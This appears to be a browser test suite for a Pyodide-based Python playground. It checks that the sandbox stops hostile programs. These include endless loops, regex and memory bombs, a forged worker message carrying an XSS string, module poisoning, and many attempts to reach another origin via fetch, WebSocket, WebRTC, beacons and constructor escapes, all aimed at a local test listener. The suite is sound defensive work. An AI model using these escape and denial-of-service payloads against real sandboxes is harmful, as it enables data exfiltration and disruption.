// Programs that mean harm, or never end: the page goes on answering, what had happened is shown, the next program runs as if
// nothing had been, and nothing leaves the browser. The site's host sends no headers, and another origin listens.

import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, before, describe, it } from 'node:test';
import { useChromium } from './chromium.mjs';
import { eventually, state } from './panel.mjs';
import { write } from './writing.mjs';

const says = (page) => page.locator('.bench-says').textContent();
const lines = async (page) => (await state(page)).output.map(({ text }) => text);
const task = (body) => `import asyncio\nasync def main():\n    print("began")\n${body.split('\n').map((line) => `    ${line}\n`).join('')}\nasyncio.run(main())\n`;

// By its name, a program and what the page says of it.
const endless = {
  'a loop without an end': task('while True:\n    pass'),
  'a loop at module level': 'print("began")\nwhile True: pass\n',
  'a loop that catches everything': task('while True:\n    try:\n        while True: pass\n    except:\n        pass'),
  'a loop that catches BaseException in a function': task('def spin():\n    while True:\n        try:\n            while True: pass\n        except BaseException:\n            pass\nspin()'),
  'a comprehension without an end': task('import itertools\n[n for n in itertools.count() if n < 0]'),
  'a task that never yields beside others': task('async def hog():\n    while True: pass\nasyncio.create_task(hog())\nawait asyncio.sleep(1)'),
  'a regular expression that explodes': task('import re\nre.match(r"(a+)+$", "a" * 40 + "b")'),
  'a power without an end': task('9 ** 9 ** 9'),
  'a loop in finally': task('try:\n    while True: pass\nfinally:\n    while True: pass'),
};
const full = {
  'prints without an end': [task('while True:\n    print("x" * 50)'), /two million things|without an end/],
  'turns without an end': [task('while True:\n    await asyncio.sleep(0)'), /two million things|without an end/],
  'a list that grows without an end': [task('hoard = []\nwhile True:\n    hoard.append(bytearray(1_000_000))'), /memory|without an end/],
};
const broken = {
  'a string that doubles': task('text = "x"\nwhile True:\n    text += text'),
  'recursion beyond every limit': task('import sys\nsys.setrecursionlimit(10**6)\ndef deep():\n    deep()\ndeep()'),
  'os._exit': task('import os\nos._exit(3)'),
  'sorting without looking up': task('sorted(range(5 * 10**7), key=lambda n: -n)'),
  'a program that ignores the signal': task('import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass'),
};

// Each tries to reach the other origin, ADDRESS, by a way of its own.
const escapes = {
  'fetch by js': 'import js\njs.fetch("ADDRESS")',
  'XMLHttpRequest': 'import js\nx = js.XMLHttpRequest.new()\nx.open("GET", "ADDRESS")\nx.send()',
  'WebSocket': 'import js\njs.WebSocket.new("ADDRESS".replace("http", "ws"))',
  'EventSource': 'import js\njs.EventSource.new("ADDRESS")',
  'importScripts': 'import js\njs.importScripts("ADDRESS")',
  'a constructor’s constructor': 'from pyodide.ffi import to_js\nto_js({}).constructor.constructor("fetch(\'ADDRESS\')")()',
  'import()': 'import js\njs.Function.new("import(\'ADDRESS\')")()',
  'a font': 'import js\njs.FontFace.new("f", "url(ADDRESS)").load()',
  'a nested worker': 'import js\nurl = js.URL.createObjectURL(js.Blob.new(["fetch(\'ADDRESS\'); importScripts(\'ADDRESS\')"]))\njs.Worker.new(url)',
  'a script that ctypes runs': 'import ctypes\nctypes.CDLL(None).emscripten_run_script(b"fetch(\'ADDRESS\')")',
  'WebRTC': 'import js\njs.Function.new("new RTCPeerConnection({iceServers:[{urls:\'stun:HOST\'}]}).createDataChannel(\'x\')")()',
  'WebTransport': 'import js\njs.Function.new("new WebTransport(\'https://HOST/\')")()',
  'a beacon': 'import js\njs.navigator.sendBeacon("ADDRESS", "x")',
  'a Pyodide package': 'import pyodide_js\npyodide_js.loadPackage("ADDRESS")',
  'urllib': 'import urllib.request\nurllib.request.urlopen("ADDRESS")',
  'storage of the page': 'import js\njs.Function.new("indexedDB.open(\'interleave\'); caches.open(\'x\')")()',
};

// Each says things in the worker's name that the worker never would.
const lies = {  // after 'import js'

  'an answer of another shape': 'import js\njs.Function.new("for (let id = 0; id < 50; ++id) port.postMessage({ id, done: 7 })")()',
  'events that are no bytes': 'import js\njs.Function.new("for (let id = 0; id < 50; ++id) port.postMessage({ id, texts: \'x\', events: [1] })")()',
  'events that break the rules': 'import js\njs.Function.new("for (let id = 0; id < 50; ++id) port.postMessage({ id, texts: new Uint8Array(0), events: new Uint8Array(96).fill(255) })")()',
  'a constructor in a message': 'import js\njs.Function.new("for (let id = 0; id < 50; ++id) port.postMessage({ id, done: { ending: \'finished\', error: { type: \'<img src=x onerror=alert(1)>\', message: {} } } })")()',
  'nothing at all': 'import js\njs.Function.new("port.postMessage(null); port.postMessage(undefined)")()',
  'a flood': 'import js\njs.Function.new("for (let i = 0; i < 20000; ++i) port.postMessage({ id: -1, x: i })")()',
  'the end of its worker': 'import js\njs.Function.new("close()")()',
};

// Each changes what the next program would find.
const poison = {
  'asyncio.sleep': 'import asyncio\nasyncio.sleep = None',
  'print': 'import builtins\nbuiltins.print = lambda *a: None',
  'a method of a queue': 'import asyncio\nasyncio.Queue.get_nowait = None',
  'json': 'import json\njson.dumps = json.loads = None',
  'the tracer itself': 'import interleave.recorder as r\nr.Recorder.emit = None',
};

describe('a program that means harm', () => {
  const { visit } = useChromium();
  const heard = [];
  let elsewhere;
  before(async () => {
    elsewhere = createServer((request, response) => {
      heard.push(request.url);
      response.setHeader('Access-Control-Allow-Origin', '*');
      response.end('');
    });
    elsewhere.on('upgrade', (request, socket) => {
      heard.push(request.url);
      socket.destroy();
    });
    await new Promise((listening) => elsewhere.listen(0, '127.0.0.1', listening));
  });
  after(() => elsewhere.close());

  const start = async (page, source) => {
    await write(page, source);
    await page.getByRole('button', { name: 'Run', exact: true }).click();
  };

  /// The page answers, and a program does what it would have done in a fresh browser.
  async function goesOn(page) {
    await start(page, 'import asyncio, json\nasync def main():\n    q = asyncio.Queue()\n    await asyncio.sleep(0.5)\n    q.put_nowait(1)\n    print("well", q.get_nowait(), json.dumps([1]))\nasyncio.run(main())\n');
    await eventually(() => says(page), '');
    await page.locator('#canvas').focus();
    await page.keyboard.press('End');
    await eventually(() => lines(page), ['well 1 [1]']);
  }

  const quick = { at: '#playground', prepare: (page) => page.addInitScript(() => { localStorage.setItem('interleave.run-time', '1'); }), expected: [/Content Security Policy/, /exception/, /Failed to load/, /WebSocket/, /violates/, /Refused/, /request failed/, /request to another origin/] };
  const group = (title, programs, check) => it(title, visit(quick, async (page) => {
    await page.locator('.bench-text .cm-content').waitFor();
    for (const [name, value] of Object.entries(programs)) {
      const source = Array.isArray(value) ? value[0] : value;
      const { port } = elsewhere.address();
      await start(page, source.replaceAll('ADDRESS', `http://127.0.0.1:${port}/x`).replaceAll('HOST', `127.0.0.1:${port}`));
      await check(page, name, value);
    }
    await goesOn(page);
  }));

  group('that never ends is stopped from within, and what it printed is shown', endless, async (page, name) => {
    await eventually(() => says(page), (text) => text.startsWith('Stopped:'), name);
    await page.locator('#canvas').focus();
    await page.keyboard.press('End');
    await eventually(() => lines(page), ['began'], name);
  });

  group('that takes all it can get is stopped', full, async (page, name, [, pattern]) => {
    await eventually(() => says(page), (text) => text.startsWith('Stopped:') && pattern.test(text), name);
  });

  group('that breaks Python, or never looks up, is ended from outside, and the spare takes over', broken, async (page, name) => {
    await eventually(() => says(page), (text) => text !== '' && !/^(Starting|Loading)/.test(text), name);
  });

  group('that tries to reach another place reaches nothing', escapes, async (page, name) => {
    await eventually(() => state(page), ({ lesson }) => lesson === 'playground', name);
    await page.waitForTimeout(200);  // for what it set going
    assert.deepEqual(heard, [], name);
  });

  group('that lies in its worker’s name is not believed', lies, async (page, name) => {
    await eventually(() => says(page), (text) => !/^(Starting|Loading)/.test(text), name);
    assert.equal(await page.locator('.bench-says *').count(), 0, name);
  });

  group('that changes modules changes none for the next', poison, async (page, name) => {
    await eventually(() => says(page), (text) => !/^(Starting|Loading)/.test(text), name);
  });
});
